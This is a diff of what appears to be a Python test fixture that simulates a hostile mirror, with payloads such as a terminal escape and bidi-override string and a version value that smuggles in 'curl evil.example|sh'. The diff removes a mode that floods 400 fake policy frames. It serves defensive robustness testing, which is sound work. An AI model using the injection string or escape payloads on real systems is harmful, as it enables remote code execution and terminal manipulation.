@@ -34,7 +34,6 @@ EVIL = "\x1b[2J\x1b]0;owned\x07\u202e\x9b31m"
 #: What somebody would paste into a shell.
 COMMAND = "3.1.1'; curl evil.example|sh; '"
 #: More than a mirror takes.
-RUNS = 400
 CHUNKS = 200
 CHUNK_BYTES = 4 * 2**20 - 8192
 CLAIMED_BYTES = 240 * 2**20
@@ -140,10 +139,6 @@ def listing(attack: str, files: Files) -> Iterator[bytes]:
     elif attack == "bomb":
         value, data = a_bomb("evil-00000000")
         yield policy_frame(value, files, data)
-    elif attack == "runs":
-        for number in range(RUNS):
-            value, data = a_policy(f"evil-{number:08x}")
-            yield policy_frame(value, files, data)
     elif attack == "curves":
         for number in range(CHUNKS):
             path, content = f"v1/runs/evil-00000000/0/metrics/train-{number:06d}.jsonl", a_chunk(number)
